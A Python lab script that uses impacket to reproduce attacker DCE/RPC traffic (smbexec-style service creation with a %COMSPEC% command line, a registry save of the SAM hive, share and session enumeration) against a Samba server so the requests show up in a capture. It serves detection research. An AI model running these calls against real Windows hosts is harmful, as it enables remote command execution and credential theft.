"""Attacker-style DCE/RPC calls with impacket, run inside the lab's client namespace.

    python dcerpc_impacket_client.py SERVER USER PASSWORD

What smbexec.py, secretsdump.py and share/session enumeration send: svcctl CreateServiceW with a
``%COMSPEC%`` command line, winreg BaseRegSaveKey of a hive, srvsvc NetrShareEnum and
NetrSessionEnum. Samba refuses some of them; the requests are on the wire all the same. SMB 2.1
is forced because impacket encrypts SMB3 sessions, which would hide the pipes from the capture.
"""

from __future__ import annotations

import sys

from impacket.dcerpc.v5 import rrp, scmr, srvs, transport
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.smb3structs import SMB2_DIALECT_21
from impacket.smbconnection import SMBConnection

BINARY_PATH = (
    "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"
    " & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"
)
SERVICE_NAME = "BTOBTO"
SAVE_FILE = "C:\\Windows\\Temp\\SAM.save"


def connect(server: str, user: str, password: str):
    """An SMB 2.1 session to ``server``, and a function binding an interface on one of its pipes."""
    smb = SMBConnection(server, server, preferredDialect=SMB2_DIALECT_21)
    smb.login(user, password)

    def bind(pipe: str, uuid: bytes):
        dce = transport.SMBTransport(server, filename=pipe, smb_connection=smb).get_dce_rpc()
        dce.connect()
        dce.bind(uuid)
        return dce

    return smb, bind


def main(server: str, user: str, password: str) -> None:
    _smb, bind = connect(server, user, password)
    dce = bind("\\svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    try:
        scmr.hRCreateServiceW(
            dce,
            manager,
            SERVICE_NAME,
            SERVICE_NAME,
            lpBinaryPathName=BINARY_PATH,
            dwStartType=scmr.SERVICE_DEMAND_START,
        )
    except DCERPCException as error:  # Samba: nca_s_op_rng_error
        print("CreateServiceW:", error)
    dce = bind("\\winreg", rrp.MSRPC_UUID_RRP)
    hive = rrp.hOpenLocalMachine(dce)["phKey"]
    try:
        rrp.hBaseRegSaveKey(dce, hive, SAVE_FILE)
    except DCERPCException as error:  # Samba: ERROR_BAD_PATHNAME
        print("BaseRegSaveKey:", error)
    dce = bind("\\srvsvc", srvs.MSRPC_UUID_SRVS)
    srvs.hNetrShareEnum(dce, 1)
    try:
        srvs.hNetrSessionEnum(dce, "\x00", "\x00", 10)
    except DCERPCException as error:  # Samba: access denied to non-root sessions listing
        print("NetrSessionEnum:", error)


if __name__ == "__main__":
    main(*sys.argv[1:4])
